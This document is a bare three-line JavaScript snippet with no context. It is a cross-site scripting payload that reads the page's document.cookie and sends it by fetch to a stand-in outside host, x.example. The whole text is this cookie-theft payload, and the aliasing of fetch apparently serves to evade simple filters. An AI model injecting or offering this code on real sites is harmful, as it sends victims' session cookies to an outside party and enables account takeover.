const f = fetch;
const { cookie } = document;
f(`https://x.example/?${cookie}`);
